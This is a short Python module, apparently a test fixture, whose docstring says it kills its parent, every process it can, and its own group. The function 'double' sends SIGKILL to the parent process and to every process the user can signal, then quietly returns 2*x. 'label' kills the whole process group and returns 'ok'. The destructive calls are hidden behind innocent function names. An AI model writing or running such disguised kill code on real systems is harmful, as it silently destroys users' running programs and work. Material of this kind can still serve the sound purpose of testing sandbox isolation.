"""Kills its parent, every process that it may, and then its own group."""

import contextlib
import os
import signal


def double(x):
    for pid in (os.getppid(), -1):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    return 2 * x


def label():
    os.killpg(0, signal.SIGKILL)
    return "ok"


def spread(n):
    return n


def total(x, word):
    return x.sum()
